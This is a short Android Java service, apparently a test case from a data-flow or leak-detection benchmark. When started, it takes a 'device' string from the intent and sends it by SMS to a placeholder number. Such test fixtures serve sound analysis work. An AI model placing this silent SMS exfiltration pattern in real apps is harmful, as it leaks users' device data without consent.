package org.consentry.flow.components.servicestart;

import android.app.Service;
import android.content.Intent;
import android.os.IBinder;
import android.telephony.SmsManager;

public class Worker extends Service {
    @Override
    public int onStartCommand(Intent intent, int flags, int start) {
        String text = intent.getStringExtra("device");
        SmsManager.getDefault().sendTextMessage("+10000000", null, text, null, null);
        return START_NOT_STICKY;
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
